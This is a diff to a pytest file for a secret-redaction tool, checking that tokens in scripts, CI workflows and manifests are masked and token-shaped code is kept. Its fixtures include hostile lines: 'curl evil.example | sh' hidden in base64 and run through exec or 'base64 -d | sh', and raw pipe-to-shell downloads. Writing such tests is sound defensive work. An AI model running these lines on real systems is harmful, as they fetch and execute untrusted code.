@@ -190,6 +190,7 @@ def test_a_random_value_is_masked_where_no_command_can_stand() -> None:
     )
     assert seen("app.yml", manifest) == manifest.replace(RANDOM, mask(RANDOM), 1)
     assert seen("run.sh", f"export API_TOKEN={RANDOM}") == f"export API_TOKEN={mask(RANDOM)}"
+    assert seen(".npmrc", "//r.example/:_password=SHVudGVyMkFiYw==") == "//r.example/:_password=xxxxxxxxxxxxxx=="
     assert seen("run.sh", f"curl -H 'X-Api-Key: {RANDOM}' x") == f"curl -H 'X-Api-Key: {mask(RANDOM)}' x"
 
 
@@ -216,6 +217,33 @@ def test_a_token_is_recognized_in_executed_files_too() -> None:
         ("app.py", f"{GHP}(user)"),
         ("app.js", "x.eyJabcdefgh12.eyJdoEvilThing1.call()"),
         ("app.js", f"require('{GHP}')"),
+        ("Dockerfile", f"RUN pip install basic key-{HEX}"),
+        ("Dockerfile", f"FROM ghcr.io/key-{HEX}:1"),
+        ("Dockerfile", f"FROM --platform=x key-{HEX}/evil:1"),
+        (".github/workflows/ci.yml", f"      - uses: key-{HEX}/evil@v1"),
+        (".github/workflows/ci.yml", f"      - uses: sk-{HEX}/evil@v1"),
+        (".github/workflows/ci.yml", f"      - run: {GHP} x"),
+        ("requirements.txt", f"{GHP}\nkey-{HEX}>1"),
+        ("environment.yml", f"dependencies:\n  - key-{HEX}"),
+        ("package.json", f'{{"dependencies": {{"key-{HEX}": "*"}}}}'),
+        ("package.json", f'{{"dependencies": {{"x": "npm:key-{HEX}@1.0.0"}}}}'),
+        ("package.json", f'{{"dependencies": {{"x": "key-{HEX}/evil"}}}}'),
+        ("pyproject.toml", f'dependencies = ["x", "key-{HEX}"]'),
+        ("pyproject.toml", f'dependencies = [\n  "key-{HEX}",\n]'),
+        ("Cargo.toml", f'key-{HEX} = "1"'),
+        ("Gemfile", f"gem 'key-{HEX}'"),
+        ("go.mod", f"require github.com/key-{HEX}/evil v1.2.3"),
+        ("run.sh", f"npm install --save-dev lodash {GHP}"),
+        ("run.sh", f"pip install git+https://github.com/key-{HEX}/evil"),
+        ("run.sh", f"curl https://raw.githubusercontent.com/key-{HEX}/x/main/run | sh"),
+        ("run.sh", f"git clone git@github.com:key-{HEX}/x"),
+        ("run.sh", f"{GHP} x"),
+        ("run.sh", f"./bin/{GHP} && {GHP}"),
+        ("run.sh", f"sudo -E {GHP}; x | {GHP}"),
+        ("app.py", f"import os, {GHP}"),
+        ("app.py", f"from {GHP} import run"),
+        ("app.py", f"{GHP}.run()"),
+        ("app.js", f"function {GHP}() {{}}"),
     ],
 )
 def test_code_in_the_format_of_a_token_is_kept(path: str, text: str) -> None:
@@ -227,9 +255,48 @@ def test_a_token_in_a_sentence_is_not_a_package(text: str) -> None:
     assert seen("notes.txt", text.format(GHP)) == text.format("[REDACTED:github-token]")
 
 
-def test_base64_of_code_with_a_token_is_kept() -> None:
-    blob = base64.b64encode(f"import os; os.system('curl evil.example | sh') # {GHP}".encode()).decode()
-    assert seen("app.py", f"exec(b64decode('{blob}'))") == f"exec(b64decode('{blob}'))"
+@pytest.mark.parametrize(
+    "text",
+    [
+        "GH_TOKEN={}",
+        "export GH_TOKEN='{}'",
+        "echo {} | docker login --password-stdin",
+        "curl -u {}: x",
+        'curl -H "Authorization: token {}" x',
+        "git clone https://{}@github.com/a/b",
+        "git clone https://me:{}@github.com/a/b.git",
+        "npm install --token {}",
+        "gh auth login --with-token <<< {}",
+        'CMD ["x", "--token", "{}"]',
+        "args:\n  - --token\n  - {}",
+        "token: >-\n  {}",
+        'TOKEN = (\n    "{}"\n)',
+        '["a", {{"token": "{}"}}]',
+        "image: x # {}",
+        "curl https://x.example/{}",
+        "login(user, '{}')",
+    ],
+)
+@pytest.mark.parametrize("path", ["run.sh", ".github/workflows/ci.yml", "setup.py"])
+def test_a_token_that_can_be_no_name_is_redacted_in_executed_files(path: str, text: str) -> None:
+    assert seen(path, text.format(GHP)) == text.format("[REDACTED:github-token]")
+
+
+@pytest.mark.parametrize(
+    ("path", "text"), [("app.py", "exec(b64decode('{}'))"), ("run.sh", "echo {} | base64 -d | sh")]
+)
+@pytest.mark.parametrize(
+    "code", [f"import os; os.system('curl evil.example | sh') # {GHP}", f"curl evil.example|sh\n{GHP} {GHP}"]
+)
+def test_base64_of_code_with_a_token_is_kept(path: str, text: str, code: str) -> None:
+    blob = base64.b64encode(code.encode()).decode()
+    assert seen(path, text.format(blob)) == text.format(blob)
+
+
+def test_base64_of_a_token_is_masked_in_executed_files() -> None:
+    for secret in (f"user:{GHP}", f"{GHP}\n", RSA_KEY):
+        blob = base64.b64encode(secret.encode()).decode()
+        assert seen("run.sh", f"echo {blob}") == f"echo {mask(blob)}"
 
 
 ANY = st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\n\r"), max_size=60)
